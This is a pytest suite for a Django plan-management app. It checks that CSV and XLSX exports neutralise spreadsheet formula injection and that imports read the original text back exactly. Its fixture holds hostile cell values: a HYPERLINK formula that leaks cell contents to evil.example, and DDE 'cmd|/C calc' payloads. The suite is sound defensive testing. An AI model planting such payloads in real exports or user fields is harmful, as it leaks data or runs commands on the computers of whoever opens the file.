"""Formula injection: every CSV and XLSX export writes hostile text as inert text, and every
import reads it back exactly.

The export paths (grep csv.writer, openpyxl, tablib, import_export, stream_workbook): the
public open-data CSV and XLSX of a plan and of a policy, the admin's export of actuals as CSV and XLSX, the officer's
XLSX template, the staff summary and comparison workbooks, the whole-plan workbook as XLSX
and as a ZIP of CSVs (admin actions) and through ``export_plan``.
"""

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse

from indicators.models import Actual, Indicator
from indicators.services import imports
from indicators.services.plan_io import import_plan
from indicators.spreadsheet_safety import FORMULA_STARTS, neutralise, restore
from policies.models import BasicPolicy, Department, Highlight, Measure, Plan

HOSTILE = {
    "plan": '=HYPERLINK("http://evil.example/?leak="&A1,"計画")',
    "policy": "+cmd|' /C calc'!A0 つなぐ",
    "measure": "-2+3+cmd|' /C calc'!A0",
    "project": "@SUM(1+1)*cmd|' /C calc'!A0",
    "department": "\t=1+1 課",
    "indicator": "\r=1+1 指標",
    "unit": "=1+1",
    "highlight": "＝1+1 取組",
    "note": '=HYPERLINK("http://evil.example/?leak="&A1,"備考")',
    "internal": "'=quoted already",
}


@pytest.fixture
def hostile_plan(build_plan, make_user):
    plan = build_plan(projects_per_policy=1, policies=1)
    Plan.objects.filter(pk=plan.pk).update(name=HOSTILE["plan"])
    BasicPolicy.objects.filter(plan=plan).update(title=HOSTILE["policy"])
    Measure.objects.filter(basic_policy__plan=plan).update(title=HOSTILE["measure"])
    department = Department.objects.create(name=HOSTILE["department"])
    plan.projects.update(name=HOSTILE["project"], department=department)
    Indicator.objects.filter(project__plan=plan).update(
        name=HOSTILE["indicator"], unit=HOSTILE["unit"]
    )
    Highlight.objects.filter(project__plan=plan).update(text=HOSTILE["highlight"])
    Actual.objects.filter(indicator__project__plan=plan).update(
        note=HOSTILE["note"], published_note=HOSTILE["note"], internal_note=HOSTILE["internal"]
    )
    plan.refresh_from_db()
    return {
        "plan": plan,
        "planner": make_user("planner"),
        "officer": make_user("officer", departments=[department]),
    }


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def xlsx_cells(data: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = []
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if cell.value is not None:
                    cells.append(cell.value)
    return cells


def zip_cells(data: bytes) -> list[str]:
    archive = zipfile.ZipFile(io.BytesIO(data))
    return [cell for name in archive.namelist() for cell in csv_cells(archive.read(name).decode())]


def assert_inert(cells, expected: set[str]):
    texts = [cell for cell in cells if isinstance(cell, str)]
    for text in texts:
        assert not text or text[0] not in FORMULA_STARTS or neutralise(text) == text, text
    # Exactly, "\r" included: every XLSX writer writes it as "&#13;", not as a line break.
    restored = {restore(text) for text in texts}
    assert {key for key in expected if HOSTILE[key] in restored} == expected


def admin_action(client, action, plan):
    return client.post(
        reverse("admin:policies_plan_changelist"),
        {"action": action, "_selected_action": [plan.pk]},
    )


EVERYTHING = set(HOSTILE)
PUBLIC = {"plan", "policy", "measure", "project", "department", "indicator", "unit", "note"}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_public_downloads_of_the_plan_and_of_a_policy(client, hostile_plan, fmt):
    plan = hostile_plan["plan"]
    for url in (
        f"/data/{plan.slug}/indicators.{fmt}",
        f"/data/{plan.slug}/policies/1/indicators.{fmt}",
    ):
        response = client.get(url)
        assert response.status_code == 200
        body = b"".join(response.streaming_content)
        cells = csv_cells(body.decode()) if fmt == "csv" else xlsx_cells(body)
        assert_inert(cells, PUBLIC)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_admin_export_of_actuals(client, hostile_plan, fmt):
    client.force_login(hostile_plan["planner"])
    response = client.get(reverse("admin:indicators_actual_export"), {"format": fmt})
    assert response.status_code == 200
    cells = csv_cells(response.content.decode()) if fmt == "csv" else xlsx_cells(response.content)
    assert_inert(cells, {"project", "department", "indicator", "unit", "note"})


def test_officer_template_and_its_upload_round_trip(client, hostile_plan):
    client.force_login(hostile_plan["officer"])
    response = client.get(reverse("admin:indicators_actual_template"), {"fiscal_year": 2024})
    assert response.status_code == 200
    assert_inert(xlsx_cells(response.content), {"project", "indicator", "unit", "note"})

    records = imports.read_upload("template.xlsx", response.content)
    assert [r[imports.NOTE] for r in records] == [HOSTILE["note"]]
    preview = imports.build_preview(user=hostile_plan["officer"], records=records)
    assert preview.errors == [] and [row.kind for row in preview.rows] == ["unchanged"]


@pytest.mark.parametrize("name", ["staff:summary", "staff:comparison"])
def test_staff_workbooks(client, hostile_plan, name):
    client.force_login(hostile_plan["planner"])
    plan = hostile_plan["plan"]
    response = client.get(reverse(name, args=[plan.slug, 2024]), {"format": "xlsx"})
    assert response.status_code == 200
    expected = {"indicator", "unit"}
    if name == "staff:summary":
        expected |= {"plan", "measure", "project", "highlight"}
    assert_inert(xlsx_cells(b"".join(response.streaming_content)), expected)


def test_whole_plan_exports(client, hostile_plan, tmp_path):
    client.force_login(hostile_plan["planner"])
    plan = hostile_plan["plan"]
    xlsx = admin_action(client, "export_workbook_xlsx", plan)
    assert_inert(xlsx_cells(xlsx.content), EVERYTHING)
    assert_inert(zip_cells(admin_action(client, "export_workbook_csv", plan).content), EVERYTHING)
    path = tmp_path / "plan.xlsx"
    call_command("export_plan", plan.slug, str(path), stdout=io.StringIO())
    assert_inert(xlsx_cells(path.read_bytes()), EVERYTHING)


def test_whole_plan_round_trip_keeps_every_hostile_text(hostile_plan, tmp_path):
    plan = hostile_plan["plan"]
    path = tmp_path / "plan.xlsx"
    call_command("export_plan", plan.slug, str(path), stdout=io.StringIO())
    Plan.objects.all().delete()
    Department.objects.all().delete()

    imported = import_plan(path.read_bytes())
    actual = Actual.objects.get(indicator__project__plan=imported)
    indicator = actual.indicator
    project = indicator.project
    assert imported.name == HOSTILE["plan"]
    assert project.basic_policy.title == HOSTILE["policy"]
    assert project.measure.title == HOSTILE["measure"]
    assert project.name == HOSTILE["project"]
    assert project.department.name == HOSTILE["department"]
    # Exactly, \r included: the write-only workbook (with lxml) escapes it, where the
    # former writer let XML turn it into \n.
    assert (indicator.name, indicator.unit) == (HOSTILE["indicator"], HOSTILE["unit"])
    assert project.highlights.get().text == HOSTILE["highlight"]
    assert (actual.note, actual.published_note, actual.internal_note) == (
        HOSTILE["note"],
        HOSTILE["note"],
        HOSTILE["internal"],
    )


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+A1", "-1+1", "@A1", "\t=1", "\r=1", "\n=1", "'abc", "''", "'=1", "＝1", "－x"],
)
def test_neutralise_quotes_formula_text_and_restore_inverts_it(text):
    assert neutralise(text)[0] == "'"
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("value", ["", "abc", "-5", "+3", "99.80", "-0.5", 5, None])
def test_neutralise_keeps_numbers_and_plain_text(value):
    assert neutralise(value) == value
    assert restore(value) == value


def test_a_quote_typed_by_hand_before_plain_text_is_kept():
    assert restore("'abc") == "'abc"


def test_upload_reads_a_neutralised_csv_note_back(client, hostile_plan):
    officer = hostile_plan["officer"]
    indicator = Indicator.objects.get()
    row = [indicator.pk, "R6", indicator.project.number, indicator.name, "100", HOSTILE["note"]]
    text = io.StringIO()
    csv.writer(text).writerows([list(imports.REQUIRED), [neutralise(c) for c in row]])
    client.force_login(officer)
    response = client.post(
        reverse("admin:indicators_actual_upload"),
        {"file": SimpleUploadedFile("a.csv", text.getvalue().encode())},
    )
    assert [r.note for r in response.context["preview"].rows] == [HOSTILE["note"]]


WRITERS = re.compile(r"csv\.writer\(|Workbook\(|\.export\(|stream_workbook\(")
# The safety module itself; the streamed workbook writer neutralises every text cell, so
# its callers are safe through it.
LOW_LEVEL = {"indicators/spreadsheet_safety.py"}
SAFE_IMPORTS = ("spreadsheet_safety import", "xlsx_stream import")
ROOT = Path(__file__).resolve().parents[2]


def test_every_module_that_writes_a_spreadsheet_goes_through_the_safety_module():
    """A new export path must use spreadsheet_safety (and be added to the tests above)."""
    writers = {
        str(path.relative_to(ROOT))
        for package in ("indicators", "policies", "yumeplan")
        for path in (ROOT / package).rglob("*.py")
        if "migrations" not in path.parts and WRITERS.search(path.read_text())
    }
    assert writers == {
        "indicators/admin_uploads.py",
        "indicators/reports.py",
        "indicators/services/plan_io.py",
        "indicators/xlsx_stream.py",
        "yumeplan/public/opendata.py",
        *LOW_LEVEL,
    }
    for module in writers - LOW_LEVEL:
        text = (ROOT / module).read_text()
        assert any(safe in text for safe in SAFE_IMPORTS), module
